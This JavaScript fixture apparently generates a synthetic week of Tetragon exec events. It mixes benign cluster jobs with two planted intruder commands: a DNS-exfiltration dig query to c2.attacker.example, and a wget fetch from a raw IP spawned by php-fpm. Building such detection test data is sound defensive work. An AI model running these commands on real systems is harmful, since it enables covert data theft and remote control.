// A week of one small cluster, as Tetragon tells it: four jobs that use network utilities every hour for good
// reasons, and two commands of someone who broke in, which look much like them.
import { createHash } from 'node:crypto';

const START = Date.UTC(2026, 10, 16);
const HOURS = 7 * 24;
const HOUR_MS = 3_600_000;

const containers = {
  acme: { namespace: 'ops', workload: 'cert-renewal', image: 'registry.example/ops/acme:4.1' },
  inventory: { namespace: 'ops', workload: 'inventory', image: 'registry.example/ops/inventory:1.9' },
  web: { namespace: 'shop', workload: 'shop-web', image: 'registry.example/shop/web:1.4.2' },
  reports: { namespace: 'shop', workload: 'reports', image: 'registry.example/shop/reports:2.0' },
};

const jobs = [
  {
    in: 'web',
    by: ['/bin/sh', '/app/refresh.sh'],
    run: (hour) => [
      '/usr/bin/wget',
      `-q https://updates.example.com/feed-${1000 + hour}.json -O /tmp/feed.json`,
    ],
  },
  {
    in: 'acme',
    by: ['/bin/sh', '/app/renew.sh'],
    run: (hour) => ['/usr/bin/dig', `+short TXT _acme-challenge.host${hour % 24}.example.com`],
  },
  {
    in: 'inventory',
    by: ['/usr/bin/python3', '/app/inventory.py'],
    run: (hour) => ['/usr/bin/nmap', `-sn 10.20.${hour % 40}.0/24`],
  },
  {
    in: 'reports',
    by: ['/usr/bin/python3', '/app/report.py'],
    run: (hour) => [
      '/usr/bin/curl',
      `-sS -T /data/report-${1000 + hour}.csv https://reports.example.com/in/`,
    ],
  },
];

/** Same tools, same images; the first even under the same parent. */
const planted = [
  {
    in: 'acme',
    by: ['/bin/sh', '/app/renew.sh'],
    at: 4 * 24 + 3.2,
    run: ['/usr/bin/dig', '+short TXT mzxw6ytboi3dqmrqgq2tmobqhe4tanzq.c2.attacker.example'],
  },
  {
    in: 'web',
    by: ['/usr/sbin/php-fpm8.2', ''],
    at: 4 * 24 + 3.4,
    run: ['/usr/bin/wget', '-q http://203.0.113.66/feed.json -O /tmp/feed.json'],
  },
];

/** Messages of GetEvents in the order of time, as plain objects, and how many of them were planted. */
export function week() {
  const events = [];
  for (let hour = 0; hour < HOURS; hour += 1)
    jobs.forEach((job, at) => {
      events.push(exec(job, job.run(hour), START + hour * HOUR_MS + at * 60_000));
    });
  for (const one of planted) events.push(exec(one, one.run, START + one.at * HOUR_MS));
  events.sort((a, b) => a.time.seconds - b.time.seconds);
  return { events, planted: planted.length };
}

function exec({ in: name, by }, [binary, args], ms) {
  const { namespace, workload, image } = containers[name];
  const digest = createHash('sha256').update(image).digest('hex');
  const id = createHash('sha256').update(name).digest('hex');
  const pid = 1000 + (Math.round(ms / 1000) % 60_000);
  const time = { seconds: Math.floor(ms / 1000), nanos: 0 };
  const pod = {
    namespace,
    name: `${workload}-6d5f8c7b9-x7k2p`,
    container: {
      id: `containerd://${id}`,
      name,
      image: { id: `${image.split(':')[0]}@sha256:${digest}`, name: image },
    },
    workload,
    workload_kind: 'Deployment',
  };
  const place = { uid: { value: 1000 }, cwd: '/', docker: id.slice(0, 31), pod };
  const process = (number, file, text) => ({
    exec_id: Buffer.from(`node-1:${ms}:${number}`).toString('base64'),
    pid: { value: number },
    binary: file,
    arguments: text,
    flags: 'execve clone',
    start_time: time,
    ...place,
  });
  const parent = process(7, ...by);
  return {
    process_exec: { process: { ...process(pid, binary, args), parent_exec_id: parent.exec_id }, parent },
    node_name: 'node-1',
    time,
  };
}
